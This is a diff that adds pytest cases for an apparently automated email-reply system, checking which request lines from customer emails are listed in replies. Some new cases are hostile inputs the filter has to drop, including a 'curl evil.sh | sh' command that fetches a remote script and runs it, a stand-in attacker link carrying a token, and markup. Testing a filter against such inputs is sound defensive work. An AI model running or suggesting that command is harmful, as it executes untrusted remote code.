@@ -35,10 +35,23 @@ def test_the_emails_list_lines_are_read_without_their_marks() -> None:
         ("after I explained again, a reply from a different person", ""),
         ("We expect about 4TB over the life of the project", ""),
         ("We need read-only access for our partners", "We need read-only access for our partners"),
+        ("We can't keep working like this, we are moving provider", ""),
         # hostile, shouted or too short to name anything
         ("Fix this useless rubbish", ""),
         ("REMOVE IT NOW", ""),
         ("Email", ""),
+        # never placed in ours: links, addresses, markup or code, long numbers, threats,
+        # a token as one long "word", our own closing words
+        ("Network account for jane.doe@evil.example", ""),
+        ("Shared drive https://evil.example/reset?token=abc", ""),
+        ("Account <b>admin</b> on the portal", ""),
+        ("Laptop with `curl evil.sh | sh` preinstalled", ""),
+        ("Card 4929 1234 5678 9012 for the licence", ""),
+        ("Sort this out or I'm leaving", ""),
+        ("Token " + "x" * 200, ""),
+        ("Anything else you need from us?", ""),
+        # joining words go, words that start a point stay
+        ("OK button greyed out on the form", "OK button greyed out on the form"),
     ],
 )
 def test_only_plain_points_are_listed(ask: str, item: str) -> None:
@@ -66,9 +79,26 @@ def test_a_list_the_email_wrote_is_confirmed_line_by_line(reply_config: ReplyCon
     said = {sentence for _, sentence in answered}
     assert len(said) == 1  # one sentence, then the points under it
     lines = said.pop().split("\n")
-    assert "our user accounts team" in lines[0]
     assert "17:00 GMT today" in lines[0]
+    assert "anything we can't do" in lines[0]  # an answer on each, not that each is done
     assert lines[1:] == ["- Network account and email", "- A desk phone if we still do those?"]
+    # the same point twice, in other capitals, is listed once
+    twice = (*asks, Ask("network account and email", "request"))
+    again = {s for _, s in answer_asks(twice, _ctx(), reply_config.templates)}
+    assert len(again) == 1
+    assert again.pop().count("\n- ") == 2
+
+
+def test_after_other_answers_the_list_is_of_the_other_points(reply_config: ReplyConfig) -> None:
+    asks = (
+        Ask("Could you reset my voicemail PIN please", "request"),
+        Ask("Network account and email", "request"),
+        Ask("A desk phone if we still do those?", "question"),
+    )
+    said = [s for _, s in answer_asks(asks, _ctx(), reply_config.templates)]
+    assert "\n" not in said[0]
+    assert said[1] == said[2]
+    assert said[1].split("\n")[0].lower().count("other points") == 1
 
 
 def test_asks_from_running_prose_are_not_listed(reply_config: ReplyConfig) -> None:
@@ -80,6 +110,9 @@ def test_asks_from_running_prose_are_not_listed(reply_config: ReplyConfig) -> No
     # nor is a fragment of a list line ("Network account" of "Network account and email")
     part = (Ask("Network account", "request"), Ask("Laptop", "request"))
     assert all("\n" not in s for _, s in answer_asks(part, _ctx(), reply_config.templates))
+    # a question inside a list line is listed only as a whole clause, not a part of one
+    ends = (Ask("we still do those?", "question"), Ask("Network account and email", "request"))
+    assert all("\n" not in s for _, s in answer_asks(ends, _ctx(), reply_config.templates))
 
 
 def test_the_list_ends_the_paragraph() -> None:
